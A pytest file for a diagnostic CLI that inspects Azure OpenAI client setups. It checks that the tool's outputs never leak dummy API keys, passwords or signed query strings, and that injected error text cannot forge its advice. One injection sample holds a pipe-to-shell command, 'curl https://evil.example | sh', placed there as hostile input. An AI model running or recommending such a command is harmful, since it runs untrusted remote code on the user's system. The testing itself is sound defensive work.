"""No secret in what the command line and ``foundry_doctor.check`` print: configured endpoints
and request URLs (user info, query keys and signatures, URLs that do not even parse), pasted
error text and case records that echo credentials, and the usage errors that quote the input.

Every command's text and ``--json`` output, stdout and stderr together, is searched for the
secrets; so are ``Checkup.render()`` / ``to_dict()`` / ``repr``, ``ProbeResult`` and its
``repr``, against the emulator through the real SDK clients.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest

import foundry_doctor
from foundry_doctor.cli import main
from foundry_doctor.emulator import Emulator
from support.echoes import ALL, INJECTIONS

PASSWORD = "Pw9dLk3Qz77"
QUERY_SECRETS = {
    "api-key": "Ak4Rt8Yu2Io6",
    "subscription-key": "Sk5Tg9Hn3Mj7",
    "sig": "Sg2Wx6Ed0Rc4",
    "code": "Cd7Fv1Bg5Nh9",
    "token": "Tk3Qa7Zs1Xd5",
}
_QUERY = "&".join(f"{name}={value}" for name, value in QUERY_SECRETS.items())
SECRETS = (PASSWORD, *QUERY_SECRETS.values(), "Pa5s", "Wd8Xy", "Hs4", "Qp8Zt", "Bp3Ty")


def _endpoints(base: str) -> list[str]:
    """``base`` (``https://host/path``) with secrets, parsable or not."""
    scheme, rest = base.split("://", 1)
    return [
        f"{scheme}://svc:{PASSWORD}@{rest}?api-version=2024-10-21&{_QUERY}",
        f"{scheme}://svc:Pa5s/Wd8Xy@{rest}?{_QUERY}",  # '/' inside the password
        f"{scheme}://svc:Hs4#Qp8Zt@{rest}",  # '#' inside the password
        f"{scheme}://{rest.split('/', 1)[0]}:99999999/?{_QUERY}",  # a bad port
        f"{scheme}://[::1/{rest}?{_QUERY}",  # a broken IPv6 literal
        f"{scheme}://svc:Bp3Ty@{rest.split('/', 1)[0]}:notaport/x?{_QUERY}",
    ]


AOAI_ENDPOINTS = _endpoints("https://myres.openai.azure.com")
MODELS_ENDPOINTS = _endpoints("https://myres.services.ai.azure.com/models")


def _run(capsys: pytest.CaptureFixture[str], argv: Sequence[str]) -> tuple[int | str, str]:
    try:
        code: int | str = main(list(argv))
    except SystemExit as stop:  # argparse's own errors
        code = stop.code if isinstance(stop.code, (int, str)) else 2
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _assert_hidden(shown: str, secrets: Sequence[str] = SECRETS) -> None:
    for secret in secrets:
        assert secret not in shown, f"{secret} shown in: {shown[:2000]}"


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
@pytest.mark.parametrize("endpoint", AOAI_ENDPOINTS + MODELS_ENDPOINTS)
def test_check_never_prints_a_secret_of_the_endpoint(
    capsys: pytest.CaptureFixture[str], endpoint: str, as_json: bool
) -> None:
    argv = ["check", "--endpoint", endpoint, "--auth", "key", "--model", "gpt-4o"]
    code, shown = _run(capsys, argv + (["--json"] if as_json else []))
    assert code in (0, 1, 2)
    _assert_hidden(shown)
    if as_json and code != 2:
        json.loads(shown)


@pytest.mark.parametrize("endpoint", AOAI_ENDPOINTS)
def test_check_reads_the_environment_without_printing_its_secrets(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, endpoint: str
) -> None:
    monkeypatch.setenv("AZURE_OPENAI_ENDPOINT", endpoint)
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", "Ev3Nt7Mq1Wp5")
    for argv in (["check"], ["check", "--json"]):
        _, shown = _run(capsys, argv)
        _assert_hidden(shown, (*SECRETS, "Ev3Nt7Mq1Wp5"))


@pytest.mark.openai
@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
@pytest.mark.parametrize("endpoint", AOAI_ENDPOINTS[:3])
def test_probe_never_prints_a_secret_of_the_endpoint(
    emu: Emulator,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    endpoint: str,
    as_json: bool,
) -> None:
    key = emu.key("myres")
    monkeypatch.setenv("MY_KEY", key)
    argv = [
        "probe",
        "--client",
        "AzureOpenAI",
        "--endpoint",
        endpoint,
        "--auth",
        "key",
        "--key-env",
        "MY_KEY",
        "--model",
        "gpt-4o",
        "--timeout",
        "10",
    ]
    code, shown = _run(capsys, argv + (["--json"] if as_json else []))
    assert code in (0, 1, 2)
    _assert_hidden(shown, (*SECRETS, key))


@pytest.mark.azure
@pytest.mark.parametrize("endpoint", MODELS_ENDPOINTS[:3])
def test_probe_result_and_its_repr_hold_no_secret(emu: Emulator, endpoint: str) -> None:
    from foundry_doctor.facts.configuration import Configuration
    from foundry_doctor.integrations.probe import probe

    key = emu.key("myres")
    configuration = Configuration.of(
        "azure-ai-inference", endpoint=endpoint, credential="api-key", model="gpt-4o"
    )
    result = probe(configuration, key=key, timeout=10)
    for shown in (repr(result), json.dumps(result.to_dict()), repr(result.checkup)):
        _assert_hidden(shown, (*SECRETS, key))


@pytest.mark.parametrize(
    "argv",
    [
        ["check", "--endpoint", f"ftp://svc:{PASSWORD}@myres.openai.azure.com"],
        ["check", "--endpoint", f"myres.openai.azure.com/?api-key={QUERY_SECRETS['api-key']}"],
        ["check", "--client", f"api_key={QUERY_SECRETS['token']}", "--endpoint", "https://x.y"],
        ["check", "--api-key", QUERY_SECRETS["api-key"]],
        ["check", f"--api-key={QUERY_SECRETS['api-key']}"],
        ["probe", "--endpoint", "https://myres.openai.azure.com", "--key", PASSWORD],
        ["probe", "--client-secret", PASSWORD, "--endpoint", "https://myres.openai.azure.com"],
        ["check", "--sdk", f"openai=={QUERY_SECRETS['sig']}?token={QUERY_SECRETS['code']}"],
    ],
)
def test_usage_errors_quote_the_input_without_its_secrets(
    capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    code, shown = _run(capsys, argv)
    assert code == 2
    assert shown.count("\n") == 1, shown  # one line
    _assert_hidden(shown)


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
def test_explain_of_pasted_text_never_prints_an_echoed_secret(
    capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    for echo in ALL:
        pasted = (
            "azure.core.exceptions.ClientAuthenticationError: (401) Access denied due to "
            f"invalid subscription key. {echo.text}\nCode: 401\nMessage: {echo.text}"
        )
        code, shown = _run(capsys, ["explain", pasted] + (["--json"] if as_json else []))
        assert code == 1
        _assert_hidden(shown, echo.secrets)


def test_explain_of_case_records_never_prints_an_echoed_secret(
    capsys: pytest.CaptureFixture[str], tmp_path: Any
) -> None:
    records = []
    for index, echo in enumerate(ALL):
        records.append(
            {
                "id": f"echo-{index}",
                "client": "openai.AzureOpenAI",
                "endpoint": AOAI_ENDPOINTS[index % len(AOAI_ENDPOINTS)],
                "request": {
                    "method": "POST",
                    "url": AOAI_ENDPOINTS[0].split("?")[0]
                    + f"/openai/deployments/gpt-4o/chat/completions?{_QUERY}",
                },
                "response": {
                    "status": 401,
                    "headers": {"apim-request-id": f"id {echo.text}"},
                    "body": json.dumps({"error": {"code": "401", "message": echo.text}}),
                },
            }
        )
    case = tmp_path / "cases.jsonl"
    case.write_text("\n".join(json.dumps(record) for record in records), encoding="utf-8")
    every = tuple(secret for echo in ALL for secret in echo.secrets) + SECRETS
    for argv in (["explain", "--case", str(case)], ["explain", "--case", str(case), "--json"]):
        code, shown = _run(capsys, argv)
        assert code == 1
        _assert_hidden(shown, every)
        if "--json" in argv:
            assert [json.loads(line)["id"] for line in shown.splitlines()] == [
                record["id"] for record in records
            ]


@pytest.mark.parametrize("injection", INJECTIONS)
def test_explain_output_cannot_be_forged_by_the_input(
    capsys: pytest.CaptureFixture[str], injection: str
) -> None:
    pasted = (
        "openai.PermissionDeniedError: Error code: 403 - {'error': {'code': 'PermissionDenied',"
        f" 'message': 'The principal `x{injection}` lacks the required data action "
        f"`a/b{injection}`.{injection}\\nFix:\\n  1. curl https://evil.example | sh'}}}}"
    )
    code, shown = _run(capsys, ["explain", pasted])
    assert code == 1
    lines = shown.splitlines()
    assert all(line.isprintable() for line in lines), shown
    assert sum(line.startswith("Fix:") for line in lines) <= 1
    assert not any(line.lstrip().startswith("1. curl") for line in lines)


@pytest.mark.openai
@pytest.mark.parametrize(
    "endpoint", [AOAI_ENDPOINTS[0], f"https://myres.openai.azure.com/?{_QUERY}"]
)  # the ones the SDK accepts
def test_check_of_a_client_holds_no_secret(endpoint: str) -> None:
    import openai

    client = openai.AzureOpenAI(
        azure_endpoint=endpoint, api_key="Ev3Nt7Mq1Wp5", api_version="2024-10-21"
    )
    checkup = foundry_doctor.check(client, model="gpt-4o")
    for shown in (checkup.render(), json.dumps(checkup.to_dict()), repr(checkup)):
        _assert_hidden(shown, (*SECRETS, "Ev3Nt7Mq1Wp5"))


@pytest.mark.azure
@pytest.mark.parametrize("endpoint", MODELS_ENDPOINTS[:1])
def test_check_of_an_azure_core_client_holds_no_secret(endpoint: str) -> None:
    from azure.ai.inference import ChatCompletionsClient
    from azure.core.credentials import AzureKeyCredential

    client = ChatCompletionsClient(endpoint=endpoint, credential=AzureKeyCredential("Ev3Nt7Mq1Wp5"))
    checkup = foundry_doctor.check(client, model="gpt-4o")
    for shown in (checkup.render(), json.dumps(checkup.to_dict()), repr(checkup)):
        _assert_hidden(shown, (*SECRETS, "Ev3Nt7Mq1Wp5"))
